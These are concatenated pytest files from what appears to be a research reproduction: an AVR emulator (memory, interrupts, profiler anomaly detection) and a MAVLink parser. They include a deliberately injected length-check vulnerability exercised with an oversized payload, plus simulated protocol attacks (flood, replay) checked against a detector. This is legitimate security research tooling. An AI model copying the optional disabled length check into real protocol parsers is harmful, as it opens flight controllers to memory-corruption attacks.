def test_spm_style_self_write_invalidates():
    cpu = AvrCpu(engine="predecoded")
    cpu.load_program(encode_stream([I(M.LDI, rd=16, k=1), I(M.BREAK)]))
    cpu.reset()
    cpu.run(10)
    # overwrite the ldi word in place with ldi r16, 9
    cpu.flash.write_word(0, encode(I(M.LDI, rd=16, k=9))[0])
    cpu.reset()
    cpu.run(10)
    assert cpu.data.read_reg(16) == 9


def test_cache_reused_across_runs_until_flash_changes():
    cpu = AvrCpu(engine="predecoded")
    cpu.load_program(encode_stream([
        I(M.INC, rd=16), I(M.RJMP, k=-2),
    ]))
    cpu.reset()
    cpu.run(100)
    rebuilds_after_first_run = cpu.engine.rebuilds
    cpu.run(100)
    cpu.run(100)
    assert cpu.engine.rebuilds == rebuilds_after_first_run
    cpu.flash.write_word(0, encode(I(M.LDI, rd=16, k=5))[0])
    cpu.run(1)
    assert cpu.engine.rebuilds == rebuilds_after_first_run + 1


def test_step_also_sees_invalidation():
    """step() goes through the same cache, so it must invalidate too."""
    cpu = AvrCpu(engine="predecoded")
    cpu.load_program(encode_stream([I(M.LDI, rd=16, k=1), I(M.BREAK)]))
    cpu.reset()
    assert cpu.step().k == 1
    cpu.flash.write_word(0, encode(I(M.LDI, rd=16, k=4))[0])
    cpu.reset()
    assert cpu.step().k == 4
    assert cpu.data.read_reg(16) == 4
