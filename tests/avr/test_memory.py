"""Memory model tests: Harvard separation, the single linear data space with
mapped registers, hooks, EEPROM, and bounds checking."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.avr import DataSpace, Eeprom, FlashMemory, RAMEND, SRAM_BASE, StatusRegister
from repro.avr.iospace import SPH_DATA, SPL_DATA, SREG_DATA, io_to_data, data_to_io
from repro.errors import MemoryAccessError


def make_data():
    return DataSpace(StatusRegister())


def test_flash_erased_state_is_ff():
    flash = FlashMemory()
    assert flash.read_byte(0) == 0xFF
    assert flash.read_word(0) == 0xFFFF


def test_flash_load_and_read_word_little_endian():
    flash = FlashMemory()
    flash.load(bytes([0x34, 0x12, 0x78, 0x56]))
    assert flash.read_word(0) == 0x1234
    assert flash.read_word(1) == 0x5678


def test_flash_bounds():
    flash = FlashMemory()
    with pytest.raises(MemoryAccessError):
        flash.read_byte(flash.size)
    with pytest.raises(MemoryAccessError):
        flash.load(b"xx", flash.size - 1)


def test_flash_erase_restores_ff():
    flash = FlashMemory()
    flash.load(b"\x01\x02")
    flash.erase()
    assert flash.read_byte(0) == 0xFF


def test_registers_are_memory_mapped():
    data = make_data()
    data.write_reg(5, 0xAB)
    assert data.read(5) == 0xAB
    data.write(6, 0xCD)
    assert data.read_reg(6) == 0xCD


def test_register_pairs():
    data = make_data()
    data.write_reg_pair(28, 0x1234)  # Y
    assert data.read_reg(28) == 0x34
    assert data.read_reg(29) == 0x12
    assert data.read_reg_pair(28) == 0x1234


def test_sp_lives_at_5d_5e():
    data = make_data()
    data.sp = 0x21FF
    assert data.read(SPL_DATA) == 0xFF
    assert data.read(SPH_DATA) == 0x21
    data.write(SPL_DATA, 0x00)
    data.write(SPH_DATA, 0x20)
    assert data.sp == 0x2000


def test_sreg_backed_by_status_register():
    sreg = StatusRegister()
    data = DataSpace(sreg)
    data.write(SREG_DATA, 0x03)
    assert sreg.c and sreg.z
    sreg.n = True
    assert data.read(SREG_DATA) & 0x04


def test_io_addressing_offset():
    data = make_data()
    data.write_io(0x05, 0x99)  # PORTB
    assert data.read(0x25) == 0x99
    assert data.read_io(0x05) == 0x99
    assert io_to_data(0x05) == 0x25
    assert data_to_io(0x25) == 0x05
    with pytest.raises(ValueError):
        io_to_data(0x40)
    with pytest.raises(ValueError):
        data_to_io(0x1000)


def test_hooks_fire():
    data = make_data()
    seen = []
    data.add_write_hook(0x300, lambda addr, val: seen.append((addr, val)))
    data.add_read_hook(0x301, lambda addr: 0x42)
    data.write(0x300, 7)
    assert seen == [(0x300, 7)]
    assert data.read(0x301) == 0x42


def test_data_space_bounds():
    data = make_data()
    with pytest.raises(MemoryAccessError):
        data.read(RAMEND + 1)
    with pytest.raises(MemoryAccessError):
        data.write(-1, 0)
    with pytest.raises(MemoryAccessError):
        data.read_block(RAMEND, 5)


def test_block_read_write():
    data = make_data()
    data.write_block(SRAM_BASE, b"hello")
    assert data.read_block(SRAM_BASE, 5) == b"hello"


def test_eeprom_read_write_and_bounds():
    ee = Eeprom()
    assert ee.read(0) == 0xFF
    ee.write(10, 0x5A)
    assert ee.read(10) == 0x5A
    with pytest.raises(MemoryAccessError):
        ee.read(ee.size)
    with pytest.raises(MemoryAccessError):
        ee.write(ee.size, 0)


@given(st.integers(0, RAMEND), st.integers(0, 255))
def test_data_space_write_read_roundtrip(addr, value):
    data = make_data()
    data.write(addr, value)
    assert data.read(addr) == value


@given(st.binary(min_size=1, max_size=64), st.integers(0, 1000))
def test_flash_load_roundtrip(blob, offset):
    flash = FlashMemory()
    flash.load(blob, offset)
    assert flash.dump(offset, len(blob)) == blob
