"""Edge coverage: error formatting, trace limits, disassembler corners,
mini-ELF queries."""

import pytest

from repro.avr import (
    AvrCpu,
    ExecutionTrace,
    Instruction,
    Mnemonic,
    encode_stream,
    iter_instructions,
)
from repro.asm import format_instruction
from repro.binfmt import MiniElf, Section
from repro.errors import (
    AsmSyntaxError,
    CpuFault,
    DecodeError,
    EncodeError,
)

I = Instruction
M = Mnemonic


def test_error_messages_carry_context():
    error = DecodeError(0xFFFF, 0x1B284)
    assert "0xffff" in str(error)
    assert "0x1b284" in str(error)
    fault = CpuFault("boom", 0x100, 42)
    assert fault.pc == 0x100 and fault.cycles == 42
    assert "0x00100" in str(fault)
    syntax = AsmSyntaxError("bad", 7)
    assert syntax.line == 7
    assert "line 7" in str(syntax)


def test_instruction_str():
    text = str(I(M.LDI, rd=16, k=255))
    assert "ldi" in text and "rd=16" in text and "k=255" in text
    assert str(I(M.RET)) == "ret"


def test_iter_instructions_stops_on_garbage():
    code = encode_stream([I(M.NOP), I(M.NOP)]) + b"\xff\xff"
    collected = list(iter_instructions(code, 0, len(code) - 2))
    assert len(collected) == 2
    with pytest.raises(DecodeError):
        list(iter_instructions(code))


def test_execution_trace_instruction_cap():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)] * 50 + [I(M.BREAK)]))
    cpu.reset()
    trace = ExecutionTrace(max_instructions=10)
    trace.attach(cpu)
    cpu.run(100)
    assert len(trace.instructions) == 10  # capped
    assert cpu.instructions_retired > 10


def test_format_instruction_branch_without_pc():
    text = format_instruction(I(M.RJMP, k=-3))
    assert text == "rjmp .-6"
    text = format_instruction(I(M.BRBS, b=3, k=2))  # no alias for bit 3
    assert text.startswith("brbs 3,")


def test_format_instruction_generic_fallbacks():
    assert format_instruction(I(M.MUL, rd=24, rr=18)) == "mul r24, r18"
    assert format_instruction(I(M.INC, rd=5)) == "inc r5"
    assert format_instruction(I(M.WDR)) == "wdr"
    assert format_instruction(I(M.BSET, b=2)) == "bset 2"
    assert format_instruction(I(M.BCLR, b=0)) == "bclr 0"
    assert format_instruction(I(M.SBI, a=5, b=1)) == "sbi 0x05, 1"
    assert format_instruction(I(M.BST, rd=7, b=6)) == "bst r7, 6"
    assert format_instruction(I(M.LDD_Z, rd=3, q=5)) == "ldd r3, Z+5"
    assert format_instruction(I(M.STD_Z, rr=3, q=0)) == "std Z+0, r3"


def test_encode_stream_multiple():
    blob = encode_stream([I(M.NOP), I(M.JMP, k=4), I(M.RET)])
    assert len(blob) == 2 + 4 + 2


def test_minielf_queries():
    obj = MiniElf()
    obj.add_section(Section(".text", 0, b"\x01\x02"))
    assert obj.has_section(".text")
    assert not obj.has_section(".bss")
    from repro.errors import BinfmtError
    with pytest.raises(BinfmtError):
        obj.section(".bss")
    assert MiniElf().flat_image() == b""


def test_encode_error_on_missing_required_operand():
    with pytest.raises(EncodeError) as info:
        from repro.avr import encode
        encode(I(M.OUT, rr=5))  # missing I/O address
    assert "missing operand" in str(info.value)
