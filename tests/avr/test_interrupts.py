"""Interrupt handling: dispatch, priority, I-flag gating, reti."""

import pytest

from repro.avr import AvrCpu, Instruction, Mnemonic, encode_stream

I = Instruction
M = Mnemonic


def build(vector_targets, body):
    """A tiny image: a 4-slot vector table of jmps, then the body."""
    insns = []
    for target in vector_targets:
        insns.append(I(M.JMP, k=target))
    insns.extend(body)
    cpu = AvrCpu()
    cpu.load_program(encode_stream(insns))
    cpu.reset()
    return cpu


def test_interrupt_dispatch_and_reti():
    # vectors: slot 0 -> word 8 (main), slot 1 -> word 10 (isr)
    code = encode_stream([
        I(M.JMP, k=4),              # vector 0 (reset) -> main at word 4
        I(M.JMP, k=9),              # vector 1 -> isr at word 9
        I(M.BSET, b=7),             # word 4: sei
        I(M.NOP),                   # 5
        I(M.NOP),                   # 6
        I(M.NOP),                   # 7
        I(M.BREAK),                 # 8
        I(M.INC, rd=20),            # word 9: isr body
        I(M.RETI),                  # 10
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.step()  # reset vector jmp
    cpu.step()  # sei
    cpu.request_interrupt(1)
    cpu.run(20)
    assert cpu.data.read_reg(20) == 1
    assert cpu.interrupts_serviced == 1
    assert cpu.halted  # main resumed and reached break
    assert cpu.data.sp == 0x21FF  # stack balanced after reti


def test_interrupt_blocked_without_i_flag():
    code = encode_stream([
        I(M.JMP, k=4),             # vector 0
        I(M.JMP, k=6),             # vector 1 -> isr
        I(M.NOP),                  # word 4 (I flag stays clear)
        I(M.BREAK),                # 5
        I(M.INC, rd=20),           # 6: isr (never reached)
        I(M.RETI),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.request_interrupt(1)
    cpu.run(20)
    assert cpu.data.read_reg(20) == 0
    assert cpu.interrupts_serviced == 0
    assert cpu.pending_interrupts == [1]  # still latched


def test_interrupt_priority_lowest_vector_first():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)] * 8))
    cpu.reset()
    cpu.sreg.i = True
    cpu.request_interrupt(3)
    cpu.request_interrupt(1)
    cpu.step()
    assert cpu.interrupts_serviced == 1
    assert cpu.pc_bytes in (2 * 2 + 2, 4)  # jumped to vector 1 then stepped
    assert cpu.pending_interrupts == [3]


def test_duplicate_requests_coalesce():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)]))
    cpu.reset()
    cpu.request_interrupt(2)
    cpu.request_interrupt(2)
    assert cpu.pending_interrupts == [2]


def test_isr_clears_i_flag_until_reti():
    code = encode_stream([
        I(M.JMP, k=4),            # vector 0
        I(M.JMP, k=7),            # vector 1 -> isr
        I(M.BSET, b=7),           # word 4: sei
        I(M.NOP),                 # 5
        I(M.BREAK),               # 6
        I(M.IN, rd=21, a=0x3F),   # word 7: isr reads SREG
        I(M.RETI),
    ])
    cpu = AvrCpu()
    cpu.load_program(code)
    cpu.reset()
    cpu.step()
    cpu.step()  # sei executed
    cpu.request_interrupt(1)
    cpu.run(20)
    assert not cpu.data.read_reg(21) & 0x80  # I was clear inside the ISR
    assert cpu.sreg.i  # restored by reti


def test_negative_vector_rejected():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.NOP)]))
    cpu.reset()
    from repro.errors import CpuFault
    with pytest.raises(CpuFault):
        cpu.request_interrupt(-1)
