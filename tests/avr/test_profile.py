"""Unit tests for the PC profiler: attribution, modes, anomaly checks.

Engine-spanning consistency (exact totals equal the cycle counter on all
four engines, block-mode tolerance) lives in
``tests/integration/test_profile_lockstep.py``; this file covers the
pieces in isolation on synthetic programs.
"""

import pytest

from repro.avr import AvrCpu, AvrProfiler, Instruction, Mnemonic, encode_stream
from repro.avr.profile import PROFILE_MODES, function_regions
from repro.telemetry.profiler import (
    FIXED_REGION,
    FunctionTable,
    UNMAPPED_REGION,
    build_report,
    collapsed_stack_lines,
    format_profile_table,
    merge_reports,
)

I = Instruction
M = Mnemonic


def run_profiled(program, mode="exact", engine="predecoded", table=None,
                 max_instructions=500, sp=None):
    cpu = AvrCpu(engine=engine)
    cpu.load_program(encode_stream(program))
    cpu.reset()
    if sp is not None:
        # leave pop room above SP (a bare RET at RAMEND reads off the
        # end of the data space)
        cpu.data.sp = sp
    profiler = AvrProfiler(mode=mode)
    if table is not None:
        profiler.table = table
    profiler.attach(cpu, cpu.engine)
    cpu.run(max_instructions)
    return cpu, profiler


# -- FunctionTable ----------------------------------------------------------

def test_function_table_resolves_regions_and_pseudo_regions():
    table = FunctionTable(
        [("alpha", 100, 120), ("beta", 120, 160)], text_start=100
    )
    assert table.resolve(104).name == "alpha"
    assert table.resolve(119).name == "alpha"
    assert table.resolve(120).name == "beta"
    assert table.resolve(40).name == FIXED_REGION
    assert table.resolve(400).name == UNMAPPED_REGION
    # repeated lookups hit the one-entry cache, same answer
    assert table.resolve(104).name == "alpha"
    assert len(table) == 2


def test_function_table_gap_between_functions_is_unmapped():
    table = FunctionTable(
        [("alpha", 100, 110), ("beta", 200, 220)], text_start=100
    )
    assert table.resolve(150).name == UNMAPPED_REGION


# -- report assembly --------------------------------------------------------

def test_build_report_sums_and_orders():
    table = FunctionTable([("hot", 0, 10), ("cold", 10, 20)], text_start=0)
    samples = {0: [5, 50], 2: [5, 60], 12: [1, 3]}
    report = build_report(samples, table)
    assert report["total_hits"] == 11
    assert report["total_cycles"] == 113
    assert [f["name"] for f in report["functions"]] == ["hot", "cold"]
    hot = report["functions"][0]
    assert hot["hits"] == 10 and hot["self_cycles"] == 110
    assert report["hot_addresses"][0]["pc"] in (0, 2)
    assert report["hot_addresses"][0]["function"] == "hot"
    # shares sum to ~100
    assert sum(f["share_pct"] for f in report["functions"]) == pytest.approx(
        100.0, abs=0.1
    )


def test_merge_reports_folds_totals():
    table = FunctionTable([("f", 0, 10)], text_start=0)
    a = build_report({0: [1, 10]}, table)
    b = build_report({2: [2, 30]}, table)
    merged = merge_reports([a, b])
    assert merged["mode"] == "merged"
    assert merged["total_cycles"] == 40
    assert merged["functions"][0]["self_cycles"] == 40


def test_collapsed_stack_lines_sorted_and_nonzero():
    lines = collapsed_stack_lines(
        {("main", "leaf"): 7, ("main",): 3, ("dead",): 0}
    )
    assert lines == ["main 3", "main;leaf 7"]


def test_format_profile_table_mentions_mode_and_functions():
    table = FunctionTable([("busy", 0, 10)], text_start=0)
    text = format_profile_table(build_report({0: [4, 9]}, table))
    assert "mode: exact" in text
    assert "busy" in text


# -- sampling: exact mode ---------------------------------------------------

def test_exact_mode_attributes_every_cycle():
    cpu, profiler = run_profiled([I(M.NOP)] * 20 + [I(M.BREAK)])
    assert cpu.halted
    assert profiler.total_cycles == cpu.cycles_lifetime + cpu.cycles
    assert sum(h for h, _ in profiler._samples.values()) == 21


def test_invalid_mode_rejected():
    with pytest.raises(ValueError):
        AvrProfiler(mode="sampling")
    assert PROFILE_MODES == ("exact", "block", "heatmap")


def test_double_attach_raises():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.BREAK)]))
    cpu.reset()
    profiler = AvrProfiler().attach(cpu)
    with pytest.raises(RuntimeError):
        profiler.attach(cpu)
    profiler.detach()
    profiler.attach(cpu)  # reattachable after detach


def test_detach_removes_trace_hook():
    cpu = AvrCpu()
    cpu.load_program(encode_stream([I(M.BREAK)]))
    cpu.reset()
    profiler = AvrProfiler().attach(cpu)
    assert cpu.trace_hooks
    profiler.detach()
    assert not cpu.trace_hooks


# -- sampling: block mode ---------------------------------------------------

def test_block_mode_on_superblock_engine_uses_profile_hook():
    cpu, profiler = run_profiled(
        [I(M.NOP)] * 20 + [I(M.BREAK)], mode="block", engine="blocks"
    )
    assert profiler.effective_mode == "block"
    assert not cpu.trace_hooks  # the fast path stayed fast
    assert profiler._block_counts
    # block attribution reconstructs per-PC weights at snapshot time
    assert profiler.total_cycles > 0


def test_block_mode_degrades_to_exact_on_per_instruction_engine():
    cpu, profiler = run_profiled(
        [I(M.NOP)] * 5 + [I(M.BREAK)], mode="block", engine="predecoded"
    )
    assert profiler.mode == "block"
    assert profiler.effective_mode == "exact"
    assert profiler.total_cycles == cpu.cycles_lifetime + cpu.cycles


def test_block_mode_detach_clears_engine_hook():
    cpu = AvrCpu(engine="blocks")
    cpu.load_program(encode_stream([I(M.BREAK)]))
    cpu.reset()
    profiler = AvrProfiler(mode="block").attach(cpu, cpu.engine)
    assert cpu.engine.profile_hook is not None
    profiler.detach()
    assert cpu.engine.profile_hook is None


# -- sampling: heatmap mode -------------------------------------------------

def test_heatmap_clean_call_return_has_no_anomalies():
    table = FunctionTable([("main", 0, 8), ("leaf", 8, 12)], text_start=0)
    cpu, profiler = run_profiled(
        [
            I(M.RCALL, k=3),   # word 0 -> leaf at word 4
            I(M.NOP),
            I(M.NOP),
            I(M.BREAK),        # word 3
            I(M.NOP),          # word 4: leaf body
            I(M.RET),
        ],
        mode="heatmap",
        table=table,
    )
    assert cpu.halted
    assert profiler.anomaly_count == 0
    # the collapsed stacks saw the real chain
    assert ("main", "leaf") in profiler.collapsed()


def test_heatmap_flags_return_without_call():
    # a RET with an empty shadow stack: the signature of a pivoted stack
    cpu, profiler = run_profiled(
        [I(M.NOP), I(M.RET), I(M.BREAK)], mode="heatmap",
        max_instructions=10, sp=0x2100,
    )
    assert profiler.anomaly_count >= 1
    assert profiler.anomalies[0]["kind"] == "return_underflow"


def test_heatmap_flags_mid_function_cross_jump():
    table = FunctionTable([("a", 0, 4), ("b", 4, 12)], text_start=0)
    cpu, profiler = run_profiled(
        [
            I(M.RJMP, k=2),    # word 0 (inside a) -> word 3 (mid-b)
            I(M.BREAK),
            I(M.NOP),          # word 2: b's entry
            I(M.NOP),          # word 3: mid-b target
            I(M.BREAK),
        ],
        mode="heatmap",
        table=table,
        max_instructions=10,
    )
    kinds = [a["kind"] for a in profiler.anomalies]
    assert "bad_jump" in kinds
    record = next(a for a in profiler.anomalies if a["kind"] == "bad_jump")
    assert record["target_function"] == "b"
    assert record["target_pc"] == 6


def test_heatmap_jump_to_function_entry_is_a_legit_tail_call():
    table = FunctionTable([("a", 0, 4), ("b", 4, 12)], text_start=0)
    cpu, profiler = run_profiled(
        [
            I(M.RJMP, k=1),    # word 0 (inside a) -> word 2 == b's entry
            I(M.BREAK),
            I(M.NOP),          # word 2: b's entry
            I(M.BREAK),
        ],
        mode="heatmap",
        table=table,
        max_instructions=10,
    )
    assert profiler.anomaly_count == 0


def test_heatmap_anomaly_list_is_capped_but_count_is_not():
    cpu = AvrCpu()
    # RET forever: every iteration underflows the shadow stack
    cpu.load_program(encode_stream([I(M.RET)]))
    cpu.reset()
    cpu.data.sp = 0x2100
    profiler = AvrProfiler(mode="heatmap", max_anomalies=4).attach(cpu)
    cpu.run(20)
    assert len(profiler.anomalies) == 4
    assert profiler.anomaly_count > 4


def test_function_regions_extends_zero_size_symbols(testapp):
    regions = function_regions(testapp.symbols)
    assert all(end > start for _, start, end in regions)
    names = [name for name, _, _ in regions]
    assert "main" in names


def test_snapshot_is_json_ready(testapp):
    from repro.telemetry import jsonable
    import json

    cpu, profiler = run_profiled([I(M.NOP)] * 5 + [I(M.BREAK)])
    snapshot = profiler.snapshot()
    json.dumps(jsonable(snapshot))
    assert snapshot["mode"] == "exact"
    assert snapshot["report"]["total_hits"] == 6
