"""Pack/unpack roundtrip property for every registered MAVLink message."""

import struct

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mavlink import ALL_MESSAGES
from repro.mavlink.messages import _TYPE_SIZES


def _value_strategy(code: str):
    if code == "f":
        return st.floats(width=32, allow_nan=False, allow_infinity=False)
    if code == "d":
        return st.floats(allow_nan=False, allow_infinity=False)
    size = _TYPE_SIZES[code]
    if code.islower():  # signed
        bound = 1 << (size * 8 - 1)
        return st.integers(-bound, bound - 1)
    return st.integers(0, (1 << (size * 8)) - 1)


@st.composite
def message_values(draw):
    definition = draw(st.sampled_from(sorted(ALL_MESSAGES.values(),
                                             key=lambda d: d.msg_id)))
    values = {
        field.name: draw(_value_strategy(field.code))
        for field in definition.fields
    }
    return definition, values


@settings(max_examples=200, deadline=None)
@given(message_values())
def test_pack_unpack_roundtrip(case):
    definition, values = case
    payload = definition.pack(**values)
    assert len(payload) == definition.payload_length
    decoded = definition.unpack(payload)
    for name, original in values.items():
        code = next(f.code for f in definition.fields if f.name == name)
        if code in ("f", "d"):
            # float fields roundtrip through their wire width
            expected = struct.unpack("<" + code, struct.pack("<" + code, original))[0]
            assert decoded[name] == expected
        else:
            assert decoded[name] == original


def test_wire_ordering_is_size_descending():
    for definition in ALL_MESSAGES.values():
        sizes = [_TYPE_SIZES[f.code] for f in definition.wire_fields]
        assert sizes == sorted(sizes, reverse=True)


def test_crc_extras_are_stable_and_distinct():
    extras = {d.msg_id: d.crc_extra for d in ALL_MESSAGES.values()}
    # recomputing yields the same values (pure function of the definition)
    for definition in ALL_MESSAGES.values():
        assert definition.crc_extra == extras[definition.msg_id]
    assert len(set(extras.values())) > 1
