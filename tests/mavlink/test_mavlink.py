"""MAVLink framing, checksum, message packing, and stream parsing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.errors import MavlinkError
from repro.mavlink import (
    ATTITUDE,
    HEARTBEAT,
    HEADER_LENGTH,
    CHECKSUM_LENGTH,
    MAGIC,
    MIN_PACKET_LENGTH,
    PARAM_SET,
    Packet,
    StreamParser,
    build,
    x25_crc,
)


def heartbeat_packet(seq=0):
    return build(
        HEARTBEAT, seq=seq, sysid=1, compid=1,
        custom_mode=0, type=1, autopilot=3, base_mode=81,
        system_status=4, mavlink_version=3,
    )


def test_x25_known_vector():
    # CRC-16/MCRF4XX of "123456789" is 0x6F91
    assert x25_crc(b"123456789") == 0x6F91


def test_packet_structure_matches_fig2():
    packet = heartbeat_packet()
    frame = packet.to_bytes()
    assert frame[0] == MAGIC  # state magic number
    assert frame[1] == len(packet.payload)  # length
    assert frame[2] == packet.seq
    assert frame[3] == packet.sysid
    assert frame[4] == packet.compid
    assert frame[5] == packet.msgid
    assert len(frame) == HEADER_LENGTH + len(packet.payload) + CHECKSUM_LENGTH


def test_minimum_packet_length_is_17():
    assert MIN_PACKET_LENGTH == 17


def test_roundtrip():
    packet = heartbeat_packet(seq=7)
    parsed = Packet.from_bytes(packet.to_bytes())
    assert parsed == packet
    decoded = parsed.decode()
    assert decoded["base_mode"] == 81
    assert decoded["mavlink_version"] == 3


def test_checksum_rejects_corruption():
    frame = bytearray(heartbeat_packet().to_bytes())
    frame[8] ^= 0xFF
    with pytest.raises(MavlinkError):
        Packet.from_bytes(bytes(frame))


def test_bad_magic_rejected():
    frame = bytearray(heartbeat_packet().to_bytes())
    frame[0] = 0x55
    with pytest.raises(MavlinkError):
        Packet.from_bytes(bytes(frame))


def test_wrong_length_rejected():
    frame = heartbeat_packet().to_bytes()
    with pytest.raises(MavlinkError):
        Packet.from_bytes(frame[:-1])


def test_message_pack_unpack_attitude():
    payload = ATTITUDE.pack(
        time_boot_ms=1234, roll=0.1, pitch=-0.2, yaw=1.5,
        rollspeed=0.0, pitchspeed=0.0, yawspeed=0.01,
    )
    values = ATTITUDE.unpack(payload)
    assert values["time_boot_ms"] == 1234
    assert abs(values["pitch"] + 0.2) < 1e-6


def test_message_missing_field():
    with pytest.raises(MavlinkError):
        HEARTBEAT.pack(custom_mode=0)


def test_message_unknown_field():
    with pytest.raises(MavlinkError):
        PARAM_SET.pack(
            param_value=1.0, target_system=1, target_component=1,
            param_index=0, param_type=9, bogus=1,
        )


def test_unpack_length_mismatch():
    with pytest.raises(MavlinkError):
        HEARTBEAT.unpack(b"\x00")


def test_crc_extra_differs_between_messages():
    assert HEARTBEAT.crc_extra != ATTITUDE.crc_extra


def test_field_range_validation():
    with pytest.raises(MavlinkError):
        Packet(seq=300, sysid=0, compid=0, msgid=0, payload=b"")


# -- stream parser -------------------------------------------------------

def test_stream_parser_reassembles_split_frames():
    parser = StreamParser()
    frame = heartbeat_packet().to_bytes()
    packets = parser.push(frame[:4])
    assert packets == []
    packets = parser.push(frame[4:])
    assert len(packets) == 1
    assert parser.stats.frames_ok == 1


def test_stream_parser_multiple_frames_with_noise():
    parser = StreamParser()
    stream = b"\x00\x11" + heartbeat_packet(1).to_bytes() + b"junk" + heartbeat_packet(2).to_bytes()
    packets = parser.push(stream)
    assert [p.seq for p in packets] == [1, 2]
    assert parser.stats.bytes_dropped > 0


def test_stream_parser_drops_bad_crc():
    parser = StreamParser()
    frame = bytearray(heartbeat_packet().to_bytes())
    frame[-1] ^= 0xFF
    assert parser.push(bytes(frame)) == []
    assert parser.stats.frames_bad_crc == 1


def test_stream_parser_drops_unknown_message():
    parser = StreamParser()
    packet = Packet(seq=0, sysid=1, compid=1, msgid=200, payload=b"\x01\x02")
    frame = packet.to_bytes(crc_extra=0)
    assert parser.push(frame) == []
    assert parser.stats.frames_unknown_type == 1


def test_vulnerable_parser_accepts_oversized_payload():
    """The injected vulnerability: length check disabled (paper IV-B)."""
    attack_payload = bytes(range(256)) * 2  # 512 bytes >> 255 max
    packet = Packet(seq=0, sysid=255, compid=0, msgid=PARAM_SET.msg_id,
                    payload=attack_payload)
    frame = packet.to_bytes_oversized()
    parser = StreamParser(length_check=False)
    packets = parser.push(frame)
    tail = parser.flush()
    received = packets + ([tail] if tail else [])
    assert len(received) == 1
    # everything after the header arrives, including the would-be checksum
    assert received[0].payload[: len(attack_payload)] == attack_payload
    assert parser.stats.oversized_frames == 1


def test_safe_parser_never_reads_past_declared_length():
    attack_payload = bytes(200)
    packet = Packet(seq=0, sysid=255, compid=0, msgid=PARAM_SET.msg_id,
                    payload=attack_payload)
    frame = packet.to_bytes_oversized()  # declared length lies (200 is legal)
    parser = StreamParser(length_check=True)
    # declared length == actual here, so CRC fails only if truncated;
    # use an actually-oversized one:
    big = Packet(seq=0, sysid=255, compid=0, msgid=PARAM_SET.msg_id,
                 payload=bytes(300))
    parser.push(big.to_bytes_oversized())
    assert parser.stats.frames_ok == 0  # safe parser rejected it


def test_legal_frame_too_long_payload_raises_on_serialize():
    packet = Packet(seq=0, sysid=1, compid=1, msgid=PARAM_SET.msg_id,
                    payload=bytes(300))
    with pytest.raises(MavlinkError):
        packet.to_bytes()


@given(st.binary(min_size=0, max_size=64))
def test_parser_never_crashes_on_garbage(noise):
    parser = StreamParser()
    parser.push(noise)
    parser.flush()


@given(st.integers(0, 255), st.integers(0, 255))
def test_heartbeat_roundtrip_property(seq, sysid):
    packet = build(
        HEARTBEAT, seq=seq, sysid=sysid, compid=1,
        custom_mode=0, type=2, autopilot=3, base_mode=0,
        system_status=4, mavlink_version=3,
    )
    assert Packet.from_bytes(packet.to_bytes()) == packet
