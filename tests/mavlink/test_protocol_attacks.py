"""Protocol attack tier: attackers, the correct-receiver model, sessions."""

import json

import pytest

from repro.attack import attack_kind
from repro.mavlink import (
    HEARTBEAT,
    PARAM_SET,
    PROTOCOL_ATTACK_NAMES,
    FrameStore,
    Packet,
    ProtocolSession,
    UplinkModel,
    build,
    make_attacker,
    mission_item_frame,
)
from repro.mavlink.attacks import session_rng
from repro.sim import ScenarioSpec, run_scenario


# -- uplink model (the patched receiver) --------------------------------------

def param_set_frame(seq=0, target=1, index=7, value=4.0):
    return build(
        PARAM_SET, seq=seq, param_value=value, target_system=target,
        target_component=0, param_index=index, param_type=9,
    ).to_bytes()


def test_uplink_model_tracks_duplicates():
    model = UplinkModel([1])
    frame = param_set_frame()
    model.ingest(frame)
    model.ingest(frame)
    assert model.accepted == 2
    assert model.duplicates == 1
    assert model.params[(1, 7)] == pytest.approx(4.0)


def test_uplink_model_broadcast_reaches_every_sysid():
    model = UplinkModel([1, 2, 3])
    model.ingest(param_set_frame(target=0))
    assert set(model.params) == {(1, 7), (2, 7), (3, 7)}


def test_uplink_model_ignores_unknown_target():
    model = UplinkModel([1])
    model.ingest(param_set_frame(target=9))
    assert model.params == {}
    assert model.accepted == 1  # parsed, just not for any fleet member


def test_uplink_model_rejects_corrupt_crc():
    model = UplinkModel([1])
    frame = param_set_frame()
    model.ingest(frame[:-1] + bytes([frame[-1] ^ 0xFF]))
    assert model.accepted == 0
    assert model.parser.stats.frames_bad_crc == 1


# -- frame helpers ------------------------------------------------------------

def test_mission_item_frame_roundtrip():
    frame = mission_item_frame(
        7, target_system=2, mission_seq=1234, x=300.5, y=450.25,
    )
    packet = Packet.from_bytes(frame)
    assert packet.seq == 7
    values = packet.decode()
    assert values["seq"] == 1234  # the payload's mission sequence
    assert values["target_system"] == 2
    assert values["x"] == pytest.approx(300.5)
    assert values["y"] == pytest.approx(450.25)


def test_frame_store_capture_order_and_seeded_pick():
    store = FrameStore()
    for frame in (b"a", b"b", b"c"):
        store.capture(frame)
    assert len(store) == 3
    first = store.pick(session_rng("replay", 1))
    assert first == store.pick(session_rng("replay", 1))


# -- attacker construction ----------------------------------------------------

def test_make_attacker_covers_registry_and_rejects_unknown():
    for name in PROTOCOL_ATTACK_NAMES:
        attacker = make_attacker(name, session_rng(name, 0))
        assert attacker.name == name
        assert attacker.frames_sent == 0
    with pytest.raises(ValueError, match="unknown protocol attack"):
        make_attacker("carrier_pigeon", session_rng("x", 0))


def test_session_rng_is_deterministic_per_kind_and_seed():
    assert session_rng("flood", 3).random() == session_rng("flood", 3).random()
    assert session_rng("flood", 3).random() != session_rng("flood", 4).random()
    assert session_rng("flood", 3).random() != session_rng("replay", 3).random()


def test_session_rejects_empty_fleet():
    with pytest.raises(ValueError, match="at least one board"):
        ProtocolSession([])


# -- end-to-end through the scenario runner -----------------------------------

@pytest.mark.parametrize("name", PROTOCOL_ATTACK_NAMES)
def test_each_kind_lands_and_is_flagged(name):
    kind = attack_kind(name)
    spec = ScenarioSpec(
        protected=False, attack=name, attack_seed=1, observe_ticks=80,
    )
    result = run_scenario(spec)
    assert result.effect, result.detector
    assert result.detected
